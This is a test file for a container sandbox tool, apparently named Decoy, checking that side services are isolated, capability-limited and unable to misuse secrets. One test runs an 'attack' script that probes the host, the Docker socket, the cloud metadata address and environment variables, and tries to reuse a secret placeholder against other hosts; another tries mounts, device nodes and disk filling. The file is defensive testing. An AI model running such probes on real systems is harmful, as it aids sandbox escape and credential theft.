import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { docker } from './guest-image.ts';
import { footprint, orphanedLoopDevices, settled } from './support/footprint.ts';
import { decoy, runDecoy, startDecoy, type DecoyEnd } from './support/run-decoy.ts';
import { busybox, file, goProgram, link, openTestImage, type TestImage, type TestImageOptions } from './support/test-image.ts';
import { startUpstream } from './support/upstream.ts';
import { openWorkspace, type Workspace } from './support/workspace.ts';

// I21
let workspace: Workspace;
let folder: string;
let image: TestImage;
beforeAll(async () => {
  workspace = await openWorkspace();
  folder = mkdtempSync(path.join(os.tmpdir(), 'services-'));
  image = openTestImage({ entries: [...programs, await goProgram('fetch.go', 'bin/fetch'), file('www/up', 'up\n'), file('etc/passwd', 'root:x:0:0::/root:/bin/sh\napp:x:77:77::/:/bin/sh\n')], changes: ['ENV FROM_IMAGE=1', 'VOLUME /data', 'EXPOSE 7000'] });
}, 60_000);
afterAll(async () => {
  await workspace[Symbol.asyncDispose]();
  await image[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true });
}, 60_000);

const programs = busybox('sh', 'cat', 'ls', 'echo', 'env', 'grep', 'dd', 'wget', 'sleep', 'mount', 'mknod', 'id', 'find', 'sed', 'test', 'true', 'chown', 'su', 'kill', 'ip', 'tr', 'touch', 'httpd');

function withServices(services: object): string[] {
  const name = path.join(folder, 'services.yml');
  writeFileSync(name, JSON.stringify(services));
  return ['--services', name, '--service-log', path.join(folder, 'services.log')];
}

/** Answers on port 7000 when it has done all the rest. */
const up = 'exec httpd -f -p 127.0.0.1:7000 -h /www';
const script = (text: string, more: object = {}) => ({ image: image.reference, command: ['/bin/sh', '-c', `${text}\n${up}`], 'health-port': 7000, ...more });

async function printed(run: Promise<DecoyEnd>): Promise<DecoyEnd & { log: string }> {
  const end = await run;
  const { readFileSync } = await import('node:fs');
  return { ...end, log: readFileSync(path.join(folder, 'services.log'), 'utf8') };
}

test('a service is up before the command, by its name and on localhost; it is told of, and gone with the run', async () => {
  const end = await printed(runDecoy([
    ...withServices({ first: script('echo I am $(id -u) in $(ls -d /data) with $FROM_IMAGE $MINE', { env: { MINE: 'mine' } }), second: { image: image.reference, command: ['/bin/sh', '-c', 'touch /tmp/ready; sleep 600'], 'health-command': 'test -e /tmp/ready' } }),
    '--workspace', 'none', '--', 'bash', '-c', 'curl -s http://first:7000/up; getent hosts first second | tr -s " "',
  ]));
  expect(end, end.stderr + end.log).toMatchObject({ exitCode: 0, stdout: 'up\n127.0.0.1 first\n127.0.0.1 second\n' });
  expect(end.log).toContain('first | I am 0 in /data with 1 mine\n');
  expect(end.report!.services).toEqual(['first', 'second'].map((name) => ({
    name, image: image.reference, imageDigest: image.id, startSeconds: expect.any(Number), exitCode: null, limits: { memoryBytes: 2 ** 29, cpus: 1, pids: 512, storageBytes: 2 ** 31 },
    usage: { cpuSeconds: expect.any(Number), memoryPeakBytes: expect.any(Number), oomKills: 0, pidsPeak: expect.any(Number), storagePeakBytes: expect.any(Number) },
  })));
  expect(end.report!.services![0]!.usage!.memoryPeakBytes).toBeGreaterThan(0);
  expect(await footprint(end.report!.id)).toEqual([]);
  expect(await settled(orphanedLoopDevices)).toEqual([]);
}, 90_000);

test('it reaches what the sandbox may reach and no more, and a placeholder it is handed is worth as little to it', async () => {
  const secret = 'sk-0123456789abcdefghijklmnopqrstuvwxyz';
  await using upstream = await startUpstream((request, response) => response.end(`authorization ${request.headers.authorization}`));
  const host = http.createServer((_, response) => response.end('THE HOST')).listen(0, '0.0.0.0');
  await once(host, 'listening');
  const { port } = host.address() as AddressInfo;
  const outward = Object.values(os.networkInterfaces()).flat().find((address) => address?.internal === false && address.family === 'IPv4')?.address ?? '172.17.0.1';
  const targets = [`127.0.0.1:${port}`, `${outward}:${port}`, '172.17.0.1:2375', '169.254.169.254', 'host.docker.internal', 'stranger.example.test', '1.1.1.1'];
  const attack = `
ip route; ip addr | grep -v lo
fetch ${targets.map((target) => `http://${target}/`).join(' ')}
ls /var/run/docker.sock /run/decoy 2>&1
env | sed 's/^/ENV /'
until placeholder=$(wget -q -O - http://127.0.0.1:7001/placeholder 2>/dev/null); do sleep 0.2; done
export FETCH_HEADER="Authorization: Bearer $placeholder"
fetch https://api.example.test/ https://other.example.test/ https://stranger.example.test/`;
  const end = await printed(runDecoy([
    ...withServices({ evil: { image: image.reference, command: ['/bin/sh', '-c', `${attack}; echo over >/data/done; httpd -f -p 127.0.0.1:7002 -h /data`], 'health-command': 'true' } }),
    '--allow', 'other.example.test', ...upstream.resolve('api.example.test', 'other.example.test', 'stranger.example.test'), '--secret', 'API_KEY@api.example.test', '--env', 'PLAIN=x', '--expose', '7000', '--',
    'bash', '-c', 'cd /tmp; printf %s "$API_KEY" >placeholder; python3 -m http.server 7001 --bind 127.0.0.1 >/dev/null 2>&1 & until curl -sf http://127.0.0.1:7002/done; do sleep 0.2; done',
  ], { cwd: workspace.path, env: { API_KEY: secret, ...upstream.env } }));
  host.close();
  expect(end.exitCode, end.stderr + end.log).toBe(0);
  for (const target of targets) expect(end.log).toMatch(new RegExp(`evil \\| http://${target.replaceAll('.', '\\.')}/ .*(unreachable|connection refused|no such host)`));
  expect(end.log).not.toContain('THE HOST');
  expect(end.log).not.toMatch(/docker\.sock$|default via|ENV (API_KEY|PLAIN|DECOY|GITHUB)/m);
  // At its own host the placeholder is the secret, for a service as for the sandbox: it is one trust. Elsewhere it is refused, and other names are not there.
  expect(end.log).toMatch(/https:\/\/api\.example\.test\/ 200 authorization Bearer sk-/);
  expect(end.log).toMatch(/https:\/\/other\.example\.test\/ 403 /);
  expect(end.log).toMatch(/https:\/\/stranger\.example\.test\/ .*no such host/);
  expect(upstream.received.map(({ host: name, headers }) => [name, headers.includes(`Bearer ${secret}`)])).toEqual([['api.example.test', true]]);
  for (const text of [end.log, end.reportText, end.auditLog]) expect(text).not.toContain(secret);
  expect(end.report).toMatchObject({ secrets: [{ name: 'API_KEY', substitutions: 1, refusals: 1 }] });
}, 120_000);

test('it has six capabilities and no more, the same filters, its own caps, a view of nothing of the host, and a workspace only when asked', async () => {
  const look = `
grep -E '^(Cap(Eff|Bnd)|NoNewPrivs|Seccomp|Seccomp_filters):' /proc/self/status | tr '\\t' ' '
mount -t tmpfs x /data 2>&1; mknod /data/loop b 7 0 2>&1
echo NOT >/decoy/guest; echo NOT >/etc/resolv.conf
touch /in-root 2>&1
dd if=/dev/zero of=/data/fill bs=1M count=200 2>&1 | grep -i space
chown 77:77 /data/fill && su app -s /bin/sh -c 'id -u' && echo GAVE-UP-ROOT
ls ${workspace.path} 2>&1
ls ${process.execPath} /usr/bin/docker 2>&1
dd if=/dev/zero of=/dev/shm/fill bs=1M count=200 2>&1; echo SHM $?`;
  const end = await printed(runDecoy([
    ...withServices({
      one: script(look, { storage: '64m', memory: '64m', pids: 32, cpus: 0.5 }),
      two: { image: image.reference, workspace: 'read-only', command: ['/bin/sh', '-c', `ls ${workspace.path}; touch ${workspace.path}/x; sleep 600`], 'health-command': 'grep -E ^Seccomp_filters: /proc/self/status >/tmp/filters; cat /tmp/filters >/proc/1/fd/1 2>/dev/null; grep -q "2$" /tmp/filters' },
    }), '--quiet', '--', 'true',
  ], { cwd: workspace.path }));
  expect(end.exitCode, end.stderr + end.log).toBe(0);
  const one = end.log.split('\n').filter((line) => line.startsWith('one | ')).map((line) => line.slice(6)).join('\n');
  // CHOWN 0, DAC_OVERRIDE 1, FOWNER 3, KILL 5, SETGID 6, SETUID 7 (linux/capability.h).
  expect(one).toContain('CapEff: 00000000000000eb\n');
  expect(one).toContain('CapBnd: 00000000000000eb\n');
  expect(one).toContain('NoNewPrivs: 1\nSeccomp: 2\nSeccomp_filters: 2\n');
  for (const refused of [/mount: .*(denied|permitted)/, /mknod: .*(denied|permitted)/, /decoy\/guest: (Read-only|.*busy)/, /resolv\.conf: Read-only/, /in-root: Read-only/, /No space left/]) expect(one).toMatch(refused);
  expect(one).toMatch(/^77\nGAVE-UP-ROOT$/m);
  expect(one).toMatch(new RegExp(`ls: ${workspace.path}: No such`));
  expect(one).toMatch(/docker: No such/);
  expect(one).not.toMatch(/^SHM 0$/m);
  expect(end.log).toContain('two | probes\n');
  expect(end.log).toMatch(/two \| touch: .*Read-only/);
  expect(end.report).toMatchObject({ conclusion: 'success', services: [{ limits: { memoryBytes: 64 * 2 ** 20, pids: 32, cpus: 0.5, storageBytes: 64 * 2 ** 20 } }, {}] });
  expect(end.report!.services![0]!.usage!.storagePeakBytes).toBeLessThanOrEqual(64 * 2 ** 20);
  // The control: in a plain container of the image there is one filter, more capabilities, and room.
  const plain = await docker(['run', '--rm', '--network', 'none', '--entrypoint', '/bin/sh', image.reference, '-c', 'grep -E "^(CapEff|NoNewPrivs|Seccomp_filters):" /proc/self/status; dd if=/dev/zero of=/data/fill bs=1M count=200 && touch /in-root && echo ROOM']);
  expect(plain.stdout).toMatch(/Seccomp_filters:\s1/);
  expect(plain.stdout).toContain('ROOM');
  expect(plain.stdout).not.toContain('00000000000000eb');
}, 120_000);

test.each<[string, object, RegExp]>([
  ['ends', { command: ['/bin/sh', '-c', 'exec >&2; echo starting; echo "::error::\u001b[31mno such database"; exit 3'], 'health-port': 7001 }, /^services: service `bad` ended with exit code 3 before it was up; it last said: starting \/ ::error::.\[31mno such database$/],
  ['is not there', { command: ['/no/such/program'], 'health-port': 7001 }, /^services: service `bad` ended with exit code 127 before it was up; it last said: decoy: cannot run "\/no\/such\/program": not found$/],
  ['never listens', { command: ['/bin/sh', '-c', 'echo waiting; sleep 600'], 'health-port': 7001, 'health-timeout': '2s' }, /^services: service `bad` was not up within 2 s \(nothing listens on port 7001\): correct it, or raise `health-timeout`; it last said: waiting$/],
  ['fails its command', { command: ['/bin/sh', '-c', 'sleep 600'], 'health-command': 'exit 1', 'health-timeout': '2s' }, /was not up within 2 s \(its health command did not succeed\): .*; it printed nothing$/],
  ['hangs in its command', { command: ['/bin/sh', '-c', 'sleep 600'], 'health-command': 'sleep 600', 'health-timeout': '2s' }, /was not up within 2 s \(its health command/],
])('where a service %s the command does not start, and nothing is left', async (_, service, message) => {
  const end = await runDecoy([...withServices({ good: script(''), bad: { image: image.reference, ...service } }), '--workspace', 'none', '--', 'echo', 'STARTED']);
  expect(end).toMatchObject({ exitCode: 125, stdout: '', report: { conclusion: 'error', error: expect.stringMatching(message) } });
  // The other was ended by Decoy: nothing to tell.
  expect(end.report!.services![0]).toMatchObject({ name: 'good', exitCode: null });
  expect(end.stderr).not.toContain('warning: service');
  expect(await footprint(end.report!.id)).toEqual([]);
}, 90_000);

test.each<[string, TestImageOptions, RegExp]>([
  ['a link in the place of Decoy\'s own files', { entries: [link('decoy', '/tmp')] }, /as its \/decoy is not a directory/],
  ['a VOLUME that leads to Decoy\'s own files', { entries: [link('x/y', '../decoy'), file('decoy/guest', '#!/bin/sh\necho RAN\n', 0o755)], changes: ['VOLUME /x/y'] }, /its VOLUME "\/x\/y"/],
  ['a VOLUME over /proc', { entries: [], changes: ['VOLUME /proc/x'] }, /its VOLUME "\/proc\/x"/],
  ['a USER it does not have', { entries: [], changes: ['USER stranger', 'CMD ["true"]'] }, /wants to run as "stranger", whom its \/etc\/passwd and \/etc\/group do not have/],
  ['no command', { entries: [] }, /has no command of its own: write `command`/],
  ['Decoy\'s init as its ENTRYPOINT', { entries: [], changes: ['ENTRYPOINT ["/decoy/guest", "init"]'] }, /ended with exit code 125 before it was up; it last said: decoy: cannot run as init: this is not PID 1/],
])('an image with %s is refused or fails, and nothing is left', async (_, options, message) => {
  await using evil = openTestImage({ ...options, entries: [...programs, file('etc/passwd', 'root:x:0:0::/root:/bin/sh\n'), ...options.entries] });
  const end = await runDecoy([...withServices({ evil: { image: evil.reference, 'health-port': 7000, 'health-timeout': '20s' } }), '--workspace', 'none', '--', 'echo', 'STARTED']);
  expect(end).toMatchObject({ exitCode: 125, stdout: '', report: { error: expect.stringMatching(message) } });
  expect(await footprint(end.report!.id)).toEqual([]);
}, 90_000);

test('one that ends while the command runs is told of, and the command goes on', async () => {
  const end = await runDecoy([...withServices({ brief: { image: image.reference, command: ['/bin/sh', '-c', 'sleep 1; echo enough; exit 4'], 'health-command': 'true' } }), '--workspace', 'none', '--', 'sleep', '3']);
  expect(end).toMatchObject({ exitCode: 0, report: { services: [{ name: 'brief', exitCode: 4, startSeconds: expect.any(Number) }] } });
  expect(end.stderr).toContain('warning: service brief ended with exit code 4 while the command ran: enough');
}, 90_000);

test('a run that is cancelled while it waits ends at once, and after SIGKILL `decoy clean` finds all of it', async () => {
  const args = [...withServices({ slow: { image: image.reference, command: ['/bin/sh', '-c', 'sleep 600'], 'health-port': 7000, 'health-timeout': '5m' } }), '--workspace', 'none', '--', 'echo', 'STARTED'];
  const waiting = async () => {
    const before = new Set((await docker(['ps', '-q', '--filter', 'name=-slow-service'])).stdout.split('\n'));
    const running = startDecoy(args);
    for (let i = 0; ; i++) {
      const ids = (await docker(['ps', '-q', '--filter', 'name=-slow-service'])).stdout.split('\n').filter((id) => id !== '' && !before.has(id));
      if (ids[0] !== undefined && (await docker(['top', ids[0]])).stdout.includes('sleep 600')) return { running, runId: (await docker(['inspect', '--format', '{{index .Config.Labels "decoy.run"}}', ids[0]])).stdout.trim() };
      if (i > 300) throw new Error('the service did not start');
      await new Promise((resolve) => { setTimeout(resolve, 100); });
    }
  };
  const cancelled = await waiting();
  cancelled.running.kill('SIGTERM');
  expect(await cancelled.running.ended).toMatchObject({ exitCode: 143, stdout: '', report: { conclusion: 'cancelled' } });
  expect(await footprint(cancelled.runId)).toEqual([]);
  const killed = await waiting();
  killed.running.kill('SIGKILL');
  await killed.running.ended;
  // The control: there is something to find.
  expect((await footprint(killed.runId)).filter((line) => line.includes('slow')).length).toBeGreaterThan(2);
  expect(await decoy(['clean'])).toMatchObject({ exitCode: 0 });
  expect(await footprint(killed.runId)).toEqual([]);
  expect(await settled(orphanedLoopDevices)).toEqual([]);
}, 120_000);
